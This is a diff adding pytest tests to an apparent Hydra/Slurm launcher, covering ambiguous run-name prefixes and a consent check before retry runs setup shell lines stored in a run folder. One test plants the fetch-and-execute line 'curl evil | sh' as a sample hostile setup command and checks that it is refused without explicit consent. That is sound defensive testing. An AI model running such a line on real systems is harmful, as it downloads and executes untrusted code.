@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import time
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -124,11 +125,20 @@ def test_runs_are_chosen_by_choices_values_and_names(
         (["seed=55"], f"seed: no run in {tmp_path}/runs/ has seed=55"),
         (["sed=1"], f"sed: no run in {tmp_path}/runs/ has sed=1"),
         (["seed"], "seed: must be GROUP=CHOICE, KEY=VALUE or run=FINGERPRINT"),
-        (["wait=true"], "launch=status: takes neither hydra.launcher nor wait; leave them out"),
+        (["wait=true"], "launch=status: takes neither hydra.launcher nor wait nor setup; leave them out"),
         ([f"runs_dir={tmp_path}/none"], f"runs_dir: there are no runs in {tmp_path}/none/"),
     ):
         assert launch(tmp_path, "status", *arguments) == (1, message)
     assert launch(tmp_path, "stauts") == (1, "launch=stauts: no such choice; did you mean 'status'?")
+
+
+def test_a_name_that_matches_two_runs_is_refused(tmp_path: Path, runs: dict[str, RunFolder]) -> None:
+    config = runs["dead"].config()
+    for digest in ("441a08" + "0" * 58, "441a08" + "1" * 58):
+        RunFolder.create(tmp_path / "runs" / "quick" / digest[:12], config, digest, runs["dead"].provenance())
+    message = "run: 441a08 matches each of 441a08000000, 441a08111111; give more digits"
+    assert launch(tmp_path, "status", "run=441a08") == (1, message)
+    assert launch(tmp_path, "status", "run=441a080") == (0, "")
 
 
 def test_status_without_slurm_goes_by_the_hearts(
@@ -184,6 +194,28 @@ def test_retry_submits_what_failed_or_was_preempted_and_nothing_else(
         assert (ticket.job_id[:2], ticket.settings, ticket.cwd) == ("10", settings, str(tmp_path))
         assert runs[name].status().state == "queued"
         assert runs[name].status().reason is None
+
+
+def test_retry_runs_shell_lines_of_a_run_folder_only_with_consent(
+    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[tuple[Slurm, list[str]]]
+) -> None:
+    ticket = ticket_of(runs["failed"])
+    assert ticket is not None
+    replace(ticket, settings=replace(ticket.settings, setup=("curl evil | sh",))).write(runs["failed"])
+    code, said = launch(tmp_path, "retry")
+    assert code == 1
+    assert said.startswith("setup: the folders of these runs name shell lines to run before each job: curl evil | sh; ")
+    assert launch(tmp_path, "retry", "setup=yes") == (1, "setup: must be run or left out, not 'yes'")
+    assert submitted == []
+    assert launch(tmp_path, "retry", "setup=run") == (0, "")
+    assert {settings.setup for settings, _ in submitted} == {("curl evil | sh",), ()}
+
+
+def test_retry_with_lines_of_its_own_needs_no_consent(
+    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[tuple[Slurm, list[str]]]
+) -> None:
+    assert launch(tmp_path, "retry", "hydra.launcher.setup=[module load cuda]") == (0, "")
+    assert [settings.setup for settings, _ in submitted] == [("module load cuda",)]
 
 
 @pytest.mark.parametrize(("said", "waits"), [("true", 1), ("True", 1), ("false", 0)])
